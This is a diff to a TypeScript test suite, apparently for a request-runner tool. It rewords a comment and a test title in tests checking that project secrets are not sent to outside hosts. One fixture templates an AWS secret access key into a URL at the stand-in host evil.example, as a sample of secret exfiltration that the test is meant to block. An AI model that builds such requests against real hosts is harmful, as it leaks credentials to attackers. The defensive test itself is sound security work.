@@ -83,7 +83,7 @@ describe("code of a project that nobody has agreed to run", () => {
 const within = (folder: string, files: Readonly<Record<string, string>>): Readonly<Record<string, string>> =>
   Object.fromEntries(Object.entries(files).map(([path, text]) => [`${folder}/${path}`, text]))
 
-/** Only a superuser can give files away; whoever else runs this tests a folder of one's own. */
+/** Only a superuser can give files away; anyone else who runs this tests a folder of one's own. */
 const giveAway = (...paths: ReadonlyArray<string>): void => {
   if (process.getuid?.() === 0) for (const path of paths) chownSync(path, 65_534, 65_534)
 }
@@ -135,7 +135,7 @@ describe("a secret", () => {
   checkOther("in the path", (host) => `${host}/well/v3/{{$secret.AWS_SECRET_ACCESS_KEY}}`)
   checkOther("in the query", (host) => `${host}/well/v3/x?a={{$secret.AWS_SECRET_ACCESS_KEY}}`)
 
-  it("goes to no host outside of this machine unasked", async () => {
+  it("goes to no host outside this machine unasked", async () => {
     using project = makeProject({ "a.rpc": requests })
     await checkRun(project, network("http://evil.example/v3/{{$secret.AWS_SECRET_ACCESS_KEY}}"), new Set([2]))
   })
